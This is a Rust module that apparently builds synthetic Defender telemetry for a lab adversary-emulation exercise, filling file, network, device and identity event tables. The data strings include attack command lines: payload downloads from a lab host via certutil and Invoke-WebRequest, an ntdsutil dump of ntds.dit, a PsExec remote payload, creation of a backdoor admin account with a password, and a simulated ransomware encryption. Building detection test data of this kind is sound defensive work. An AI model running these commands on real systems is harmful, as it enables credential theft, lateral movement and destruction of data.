//! What the emulation exercise leaves besides its processes: the files its tests write, the
//! connections they open, the accounts and pipes they create, and what Defender for Identity
//! sees of the test account. `emulation.rs` runs the tests.

use serde_json::json;

use super::activity::{set_device, set_file, set_initiating, Proc};
use super::background::{table, Background, Builders, HOUR, MINUTE};
use super::directory::set_asker;

/// (program, its command line, folder written, file written, action).
const FILES: &[(&str, &str, &str, &str, &str)] = &[
    ("c.exe", "c.exe -urlcache -split -f http://lab-web01.contoso.com/art/payload.txt", r"C:\Windows\Temp", "payload.txt", "FileCreated"),
    ("wscript.exe", r"wscript.exe C:\Windows\Temp\art.jse", r"C:\Windows\Temp", "art.jse", "FileCreated"),
    ("mshta.exe", r"mshta.exe C:\Windows\Temp\art.hta", r"C:\Users\grady.vance\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup", "art.hta", "FileCreated"),
    ("powershell.exe", "powershell.exe -Command Export-PfxCertificate -Cert Cert:\\CurrentUser\\My\\art -FilePath art.pfx", r"C:\Users\grady.vance\Documents", "art.pfx", "FileCreated"),
    ("spoolsv.exe", r"C:\Windows\System32\spoolsv.exe", r"C:\Windows\System32\spool\drivers\x64\3", "art-printnightmare.dll", "FileCreated"),
    ("PsExec64.exe", r"PsExec64.exe -accepteula \\lab-emul01 -c C:\AtomicRedTeam\ExternalPayloads\art.exe", r"\\lab-emul01\ADMIN$", "art.exe", "FileCreated"),
    ("explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Users\Public\Documents", "budget.xlsx.art", "FileRenamed"),
    ("robocopy.exe", r"robocopy C:\Users\Public\Documents E:\art /E", r"E:\art", "Q3-forecast.xlsx", "FileCreated"),
    ("ntdsutil.exe", r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ntds" q q"#, r"C:\Windows\Temp\ntds\Active Directory", "ntds.dit", "FileModified"),
];

/// T1486: the test encrypts a folder of sample documents, appending its own extension.
const ENCRYPTED: &[&str] = &[
    "budget.xlsx",
    "Q3-forecast.xlsx",
    "proposal-v2.docx",
    "meeting-notes.docx",
    "architecture.pdf",
    "invoice-2291.pdf",
    "team-photo.jpg",
    "roadmap.pptx",
    "contacts.txt",
    "pricing.xlsx",
    "handbook.pdf",
    "board-deck.pptx",
];

/// (program, its command line, where it connects, port).
const CONNECTIONS: &[(&str, &str, &str, &str, i64)] = &[
    ("msbuild.exe", "msbuild.exe", "lab-web01.contoso.com", "10.1.9.30", 443),
    ("rundll32.exe", "rundll32.exe", "lab-web01.contoso.com", "10.1.9.30", 8080),
    ("RegAsm.exe", "\"RegAsm.exe\"", "lab-web01.contoso.com", "10.1.9.30", 443),
    ("powershell.exe", "powershell.exe -Command Invoke-WebRequest -Uri http://lab-web01.contoso.com/art/tim.exe -OutFile tim.EXE", "lab-web01.contoso.com", "10.1.9.30", 80),
    ("certutil.exe", "certutil.exe -urlcache -split -f http://lab-web01.contoso.com/art/payload.txt", "lab-web01.contoso.com", "10.1.9.30", 80),
];

impl Background<'_> {
    pub fn emulation_traces(&mut self, tables: &mut Builders) {
        let lab = self.world.device("lab-emul01").clone();
        let admin = self.world.user("grady.vance").clone();
        let dc = self.world.device("dc-01").clone();
        let start = self.end - 20 * HOUR;
        let proc = |file: &str, command: &str, at: i64| Proc {
            file: file.into(),
            folder: r"C:\Windows\System32".into(),
            command: command.into(),
            pid: 24_000 + (at % 997),
            created: at - 2 * 10_000_000,
            account: admin.clone(),
            integrity: "High",
            parent_file: "cmd.exe".into(),
            parent_pid: 23_990,
        };
        for (i, (program, command, folder, file, action)) in FILES.iter().enumerate() {
            let at = start + (3 + i as i64 * 4) * MINUTE;
            let report = self.next_report();
            let b = table(tables, "DeviceFileEvents");
            b.row(at);
            set_device(b, &lab);
            set_file(b, self.seed, action, folder, file, 4_096 + 512 * i as i64);
            set_initiating(b, self.seed, &proc(program, command, at));
            b.long("ReportId", report);
            if *action == "FileRenamed" {
                b.text("PreviousFileName", "budget.xlsx")
                    .text("PreviousFolderPath", &format!(r"{folder}\budget.xlsx"));
            }
        }
        let locker = proc(
            "powershell.exe",
            r"powershell.exe -File C:\AtomicRedTeam\atomics\T1486\src\encrypt.ps1 -Path C:\Users\Public\Documents",
            start + 2 * HOUR,
        );
        for (i, file) in ENCRYPTED.iter().enumerate() {
            let at = start + 2 * HOUR + i as i64 * 2 * 10_000_000;
            let report = self.next_report();
            let b = table(tables, "DeviceFileEvents");
            b.row(at);
            set_device(b, &lab);
            let folder = r"C:\Users\Public\Documents";
            set_file(
                b,
                self.seed,
                "FileRenamed",
                folder,
                &format!("{file}.art"),
                8_192,
            );
            set_initiating(b, self.seed, &locker);
            b.text("PreviousFileName", file)
                .text("PreviousFolderPath", &format!(r"{folder}\{file}"))
                .long("ReportId", report);
        }
        for (i, (program, command, url, ip, port)) in CONNECTIONS.iter().enumerate() {
            let at = start + (5 + i as i64 * 6) * MINUTE;
            let report = self.next_report();
            let b = table(tables, "DeviceNetworkEvents");
            b.row(at);
            set_device(b, &lab);
            set_initiating(b, self.seed, &proc(program, command, at));
            b.text("ActionType", "ConnectionSuccess")
                .text("RemoteIP", ip)
                .long("RemotePort", *port)
                .text("RemoteUrl", url)
                .text("LocalIP", &lab.ip)
                .long("LocalPort", 50_000 + i as i64)
                .text("Protocol", "Tcp")
                .text("LocalIPType", "Private")
                .text("RemoteIPType", "Private")
                .long("ReportId", report);
        }
        // A share scan: one SMB connection to every server and the first workstations it
        // lists, within a few minutes.
        let mut servers: Vec<_> = self
            .world
            .devices
            .iter()
            .filter(|d| d.is_server)
            .cloned()
            .collect();
        servers.extend(
            self.world
                .devices
                .iter()
                .filter(|d| !d.is_server && d.name != lab.name)
                .take(12)
                .cloned(),
        );
        let scanner = proc(
            "powershell.exe",
            "powershell.exe -Command Invoke-ShareFinder",
            start + HOUR,
        );
        for (i, server) in servers.iter().enumerate() {
            let report = self.next_report();
            let b = table(tables, "DeviceNetworkEvents");
            b.row(start + HOUR + i as i64 * 5 * 10_000_000);
            set_device(b, &lab);
            set_initiating(b, self.seed, &scanner);
            b.text("ActionType", "ConnectionSuccess")
                .text("RemoteIP", &server.ip)
                .long("RemotePort", 445)
                .text("RemoteUrl", &server.name)
                .text("LocalIP", &lab.ip)
                .text("Protocol", "Tcp")
                .text("LocalIPType", "Private")
                .text("RemoteIPType", "Private")
                .long("ReportId", report);
        }
        // The test account, its local group, PsExec's pipe, a blocked folder write.
        let net = proc(
            "net.exe",
            "net user art-test P@ssw0rd1 /add",
            start + 9 * MINUTE,
        );
        for (action, fields) in [
            ("UserAccountCreated", json!({})),
            (
                "UserAccountAddedToLocalGroup",
                json!({"GroupName": "Administrators", "GroupDomainName": "Builtin", "GroupSid": "S-1-5-32-544"}),
            ),
            (
                "NamedPipeEvent",
                json!({"PipeName": r"\Device\NamedPipe\psexecsvc", "FileOperation": "File created", "NamedPipeEnd": "Server"}),
            ),
            (
                "ControlledFolderAccessViolationAudited",
                json!({"IsAudit": true}),
            ),
            (
                "ExploitGuardNonMicrosoftSignedBlocked",
                json!({"IsAudit": false}),
            ),
            (
                "PowerShellCommand",
                json!({"Command": "Invoke-ShareFinder"}),
            ),
        ] {
            let report = self.next_report();
            let b = table(tables, "DeviceEvents");
            b.row(start + 10 * MINUTE);
            set_device(b, &lab);
            set_initiating(b, self.seed, &net);
            b.text("ActionType", action)
                .text("AccountName", "art-test")
                .text("AccountDomain", "lab-emul01")
                .text("AccountSid", "S-1-5-21-3623811015-3361044348-30300820-1013")
                .json("AdditionalFields", fields)
                .long("ReportId", report);
        }
        let b = table(tables, "IdentityDirectoryEvents");
        b.row(start + 11 * MINUTE);
        set_asker(b, &admin, &lab.name, &lab.ip);
        b.text("ActionType", "Group Membership changed")
            .text("Application", "Active Directory")
            .text("TargetAccountUpn", "art-test@contoso.com")
            .text("TargetAccountDisplayName", "art-test")
            .text("DestinationDeviceName", &dc.name)
            .long("ReportId", self.report)
            .json("AdditionalFields", json!({"TO.GROUP": "Backup Operators", "TARGET_OBJECT.USER": "art-test", "ACTOR.ACCOUNT": admin.display}));
    }
}
